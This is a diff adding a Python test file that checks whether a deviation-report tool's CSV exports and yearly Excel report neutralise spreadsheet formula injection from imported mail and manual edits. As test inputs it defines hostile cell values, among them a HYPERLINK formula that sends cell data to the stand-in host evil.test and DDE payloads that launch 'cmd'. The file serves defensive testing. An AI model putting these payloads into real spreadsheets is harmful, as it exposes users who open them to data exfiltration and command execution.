@@ -1,0 +1,90 @@
+"""Hostile values from mail and from `case set` in the outputs an admin opens: the yearly report (.xlsx) and
+the CSV exports.  A value a spreadsheet could run as a formula (`=`, `+`, `-`, `@`, tab/CR first) is text."""
+from __future__ import annotations
+
+import csv
+import io
+import os
+import subprocess
+import sys
+from datetime import date, datetime, timezone
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from tests.formbuilder import build_form
+from tests.mailbuilder import make_mail
+
+WHEN = datetime(2025, 3, 10, 9, 30, tzinfo=timezone.utc)
+HOSTILE_EVENT = '=HYPERLINK("http://evil.test/?x="&A1,"klicka")'
+HOSTILE_UNIT = "+cmd|' /C calc'!A0"
+HOSTILE_DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def cli(*args: str, db_url: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "BUSAVVIK_DATABASE_URL": db_url}
+    env.pop("BUSAVVIK_CONFIG", None)
+    return subprocess.run([sys.executable, "-m", "busavvik.cli", *args], capture_output=True, text=True,
+                          env=env, timeout=180)
+
+
+def _hostile_deviation(folder: Path) -> None:
+    form = build_form({"event_type": HOSTILE_EVENT, "units_involved": [HOSTILE_UNIT, "BUP Globen"],
+                       "description": HOSTILE_DESCRIPTION, "proposed_action": "-2+3",
+                       "reported_date": date(2025, 3, 7), "reporter_unit": "Socialtjänsten Farsta",
+                       "reporter_phone": "\t=1+1"})
+    folder.mkdir(parents=True)
+    (folder / "formula-injection.eml").write_bytes(make_mail(
+        subject="Avvikelse: =1+1", sender="Anna Andersson <anna.andersson@stockholm.se>",
+        to=["BUS-avvikelser@storsthlm.se", "bup.globen@regionstockholm.se"], when=WHEN,
+        attachments=[("Avvikelseblankett.docx", form)]))
+
+
+def _imported(tmp_path: Path, db_url: str) -> str:
+    _hostile_deviation(tmp_path / "storsthlm")
+    done = cli("import", "--quiet", str(tmp_path / "storsthlm"), db_url=db_url)
+    assert done.returncode == 0, done.stderr
+    listed = cli("export", "deviations", db_url=db_url)
+    assert '"case_id": "BUS-2025-0001"' in listed.stdout, listed.stdout[-2000:]
+    return "BUS-2025-0001"
+
+
+def test_csv_export_neutralises_formulas_from_mail_and_case_set(db_url: str, tmp_path: Path) -> None:
+    case = _imported(tmp_path, db_url)
+    assert cli("case", "set", "--", case, "personal_data_contact", "-1+1", db_url=db_url).returncode == 0
+    assert cli("case", "set", "--", case, "themes", "@evil; SIP", db_url=db_url).returncode == 0
+    text = cli("export", "deviations", "--format", "csv", db_url=db_url).stdout
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["event_type"] == "'" + HOSTILE_EVENT
+    assert row["description"] == "'" + HOSTILE_DESCRIPTION
+    assert row["proposed_action"] == "'-2+3"
+    assert row["personal_data_contact"] == "'-1+1"
+    assert row["reporter.phone"] == "'=1+1"     # the form trims the tab; the = stays
+    assert row["units_involved"].startswith("'+cmd")
+    assert row["classification.themes"] == "'@evil; SIP"
+    assert row["case_id"] == case and row["responded"] == "False"
+    messages = next(csv.DictReader(io.StringIO(cli("export", "messages", "--format", "csv",
+                                                   db_url=db_url).stdout)))
+    assert messages["subject"] == "Avvikelse: =1+1"     # not formula-like: left as it is
+    # No raw cell anywhere begins like a formula; text is quoted (a ';' inside it stays in its cell).
+    for line in csv.reader(io.StringIO(text)):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
+    assert f'"{case}"' in text
+
+
+def test_xlsx_report_writes_formula_like_overrides_as_text(db_url: str, tmp_path: Path) -> None:
+    case = _imported(tmp_path, db_url)
+    for field, value in (("reporter_org_type", HOSTILE_EVENT), ("receiver_org_types", "+evil; -x; BUP"),
+                         ("themes", "@SUM(A1); \r=1"), ("principal_relation", "between")):
+        done = cli("case", "set", "--", case, field, value, db_url=db_url)
+        assert done.returncode == 0, done.stderr
+    out = tmp_path / "rapport.xlsx"
+    done = cli("report", "--year", "2025", "--out", str(out), db_url=db_url)
+    assert done.returncode == 0, done.stderr
+    cells = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row if c.value is not None]
+    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\r"))]
+    assert {c.value for c in hostile} >= {HOSTILE_EVENT, "+evil", "-x", "@SUM(A1)", "=1"}
+    for c in hostile:
+        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value, c.data_type)
+    numbers = [c for c in cells if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
+    assert numbers and all(c.data_type == "n" for c in numbers)
